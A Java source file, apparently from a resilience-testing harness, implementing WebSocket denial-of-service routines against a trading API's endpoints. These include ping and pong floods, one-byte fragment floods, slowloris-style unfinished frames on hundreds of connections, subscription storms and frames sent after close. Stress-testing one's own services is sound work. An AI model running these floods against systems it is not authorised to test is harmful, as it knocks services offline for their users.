package io.tapeloom.attack.attacks;

import io.tapeloom.attack.assault.Assault;
import io.tapeloom.attack.wire.WebSocketPeer;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** WebSocket frames of all kinds, by clients that do not read or do not finish a message. */
final class FrameAttacks {

  static final String OPERATIONS = "/api/v1/ws";
  static final String CHANNELS = "/api/v1/ws/v1";

  private static final int SMALL_BUFFER = 4_096;
  private static final int FIN = 0x80;
  private static final int MEBIBYTE = 1 << 20;

  private static final List<String> SYMBOLS =
      List.of("AAPL", "GOOGL", "MSFT", "TSLA", "AMZN", "NVDA", "META");

  private FrameAttacks() {}

  static void pings(Assault assault) throws InterruptedException {
    flood(assault, OPERATIONS, WebSocketPeer.frame(FIN | WebSocketPeer.PING, new byte[125]), 64);
  }

  static void channelPings(Assault assault) throws InterruptedException {
    flood(assault, CHANNELS, WebSocketPeer.frame(FIN | WebSocketPeer.PING, new byte[0]), 512);
  }

  static void pongs(Assault assault) throws InterruptedException {
    flood(assault, OPERATIONS, WebSocketPeer.frame(FIN | WebSocketPeer.PONG, new byte[125]), 64);
  }

  static void pingMessages(Assault assault) throws InterruptedException {
    flood(assault, CHANNELS, message("{\"type\":\"ping\"}"), 64);
  }

  /** Sends invalid messages whose errors repeat the input, without reading. */
  static void refusals(Assault assault) throws InterruptedException {
    flood(
        assault,
        CHANNELS,
        message("{\"type\":\"subscribe\",\"channel\":\"" + "x".repeat(60_000) + "\"}"),
        4);
  }

  /** Sends messages with one byte per frame. */
  static void fragments(Assault assault) throws InterruptedException {
    flood(assault, OPERATIONS, WebSocketPeer.frame(WebSocketPeer.CONTINUATION, new byte[1]), 512);
  }

  static byte[] message(String text) {
    return WebSocketPeer.frame(FIN | WebSocketPeer.TEXT, text.getBytes(StandardCharsets.UTF_8));
  }

  /** Runs 200 connections that repeatedly send one frame without reading. */
  private static void flood(Assault assault, String path, byte[] frame, int atOnce)
      throws InterruptedException {
    var bytes = new byte[frame.length * atOnce];
    for (int i = 0; i < atOnce; i++) {
      System.arraycopy(frame, 0, bytes, i * frame.length, frame.length);
    }
    boolean continues = (frame[0] & 0x0F) == WebSocketPeer.CONTINUATION;
    assault.crowd(
        200,
        () -> {
          var peer = assault.webSocket(path, SMALL_BUFFER);
          if (continues) {
            peer.connection().send(WebSocketPeer.frame(WebSocketPeer.TEXT, new byte[] {'{'}));
          }
          while (assault.goesOn()) {
            peer.connection().send(bytes);
            assault.saw("frames", atOnce);
            assault.breathe();
          }
        });
    assault.hold();
  }

  /** Sends incomplete messages on the maximum number of connections. */
  static void unfinishedMessages(Assault assault) throws InterruptedException {
    var piece = WebSocketPeer.frame(WebSocketPeer.TEXT, blanks(MEBIBYTE - 64));
    hoard(assault, piece);
  }

  /** Sends frames that announce more bytes than they contain. */
  static void unfinishedFrames(Assault assault) throws InterruptedException {
    var head = WebSocketPeer.head(FIN | WebSocketPeer.TEXT, MEBIBYTE - 64);
    var piece = new byte[head.length + MEBIBYTE / 2];
    System.arraycopy(head, 0, piece, 0, head.length);
    hoard(assault, piece);
  }

  private static void hoard(Assault assault, byte[] piece) throws InterruptedException {
    assault.crowd(
        520,
        () -> {
          var peer = assault.webSocket(CHANNELS);
          peer.connection().send(piece);
          assault.saw("unfinished");
          while (assault.goesOn()) {
            assault.pause(100);
          }
        });
    assault.hold();
  }

  private static byte[] blanks(int count) {
    return " ".repeat(count).getBytes(StandardCharsets.UTF_8);
  }

  /** Subscribes to all topics without reading. */
  static void unreadSubscriptions(Assault assault) throws InterruptedException {
    assault.crowd(
        150,
        () -> {
          var peer = assault.webSocket(OPERATIONS, SMALL_BUFFER);
          for (var symbol : SYMBOLS) {
            for (var family : List.of("quotes", "trades", "orderbook", "bars")) {
              peer.send(subscription(family, "subscribe", symbol));
            }
          }
          assault.saw("subscribed");
          assault.hold();
        });
    assault.hold();
  }

  /** Repeatedly subscribes and unsubscribes, and reads the answers. */
  static void subscriptionStorm(Assault assault) throws InterruptedException {
    assault.crowd(
        60,
        () -> {
          var peer = assault.webSocket(OPERATIONS);
          for (int i = 0; i < 50 && assault.goesOn(); i++) {
            var symbol = SYMBOLS.get(i % SYMBOLS.size());
            peer.send(subscription("trades", "subscribe", symbol));
            peer.send(subscription("trades", "unsubscribe", symbol));
            peer.read();
            peer.read();
            assault.breathe();
          }
          assault.saw("50 subscriptions");
          assault.leave(peer.connection());
        });
    assault.hold();
  }

  /** Sends the maximum burst from 250 connections, each in one write, then from new connections. */
  static void bursts(Assault assault) throws InterruptedException {
    var burst = new ByteArrayOutputStream();
    for (int i = 0; i < 250; i++) {
      var symbol = SYMBOLS.get(i % SYMBOLS.size());
      burst.writeBytes(message(subscription("orderbook", "subscribe", symbol)));
      burst.writeBytes(message(subscription("orderbook", "unsubscribe", symbol)));
    }
    assault.crowd(
        250,
        () -> {
          var peer = assault.webSocket(OPERATIONS);
          peer.connection().send(burst.toByteArray());
          assault.saw("bursts");
          assault.pause(1_000);
          assault.leave(peer.connection());
        });
    assault.hold();
  }

  private static String subscription(String family, String what, String symbol) {
    return "{\"type\":\"%s.%s\",\"payload\":{\"symbol\":\"%s\"}}".formatted(family, what, symbol);
  }

  /** Repeatedly connects, performs the handshake and disconnects. */
  static void comingAndGoing(Assault assault) throws InterruptedException {
    assault.crowd(
        60,
        () -> {
          var peer = assault.webSocket(CHANNELS);
          assault.saw("came and went");
          peer.connection().reset();
          assault.leave(peer.connection());
        });
    assault.hold();
  }

  /** Sends what closes the connection, and then further frames instead of closing. */
  static void afterClose(Assault assault) throws InterruptedException {
    var frame = WebSocketPeer.frame(FIN | WebSocketPeer.PONG, new byte[0]);
    var frames = new ByteArrayOutputStream();
    for (int i = 0; i < 4_096; i++) {
      frames.writeBytes(frame);
    }
    assault.crowd(
        250,
        () -> {
          var peer = assault.webSocket(OPERATIONS, SMALL_BUFFER);
          peer.send("x");
          assault.saw("closing");
          try {
            while (assault.goesOn()) {
              peer.connection().send(frames.toByteArray());
              assault.breathe();
            }
          } finally {
            assault.leave(peer.connection());
          }
        });
    assault.hold();
  }
}
